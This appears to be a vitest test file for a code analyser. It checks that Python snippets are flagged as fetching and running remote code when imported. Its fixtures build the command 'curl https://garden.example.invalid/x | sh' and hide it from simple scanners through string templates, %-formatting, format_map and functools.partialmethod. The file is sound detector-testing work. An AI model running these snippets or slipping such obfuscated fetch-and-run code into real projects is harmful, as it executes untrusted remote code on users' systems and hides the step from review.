import { expect, test } from 'vitest';
import { read } from './reading.js';

const PARTS = 'PARTS = {"module": "os", "tool": "system", "line": "curl https://garden.example.invalid/x | sh"}\n';
const fetches = async (text: string) => (await read(text)).facts?.calls('process').some(({ when, traits }) => when === 'import' && traits.has('fetches-and-runs'));

test.each([
  ['a template by $', 'import string\nexec(string.Template("import $module; $module.$tool(\'$line\')").substitute(PARTS))'],
  ['a template by %', 'exec("import %(module)s; %(module)s.%(tool)s(\'%(line)s\')" % PARTS)'],
  ['a template by braces', 'exec("import {module}; {module}.{tool}(\'{line}\')".format_map(PARTS))'],
])('%s is filled with what a dict holds', async (_, text) => {
  expect(await fetches(PARTS + text)).toBe(true);
});

test('a method with what it is given beforehand is called with that', async () => {
  expect(await fetches('import functools, os\nclass Bed:\n    def dig(self, line): os.system(line)\n    up = functools.partialmethod(dig, "curl https://garden.example.invalid/x | sh")\nBed().up()\n')).toBe(true);
});
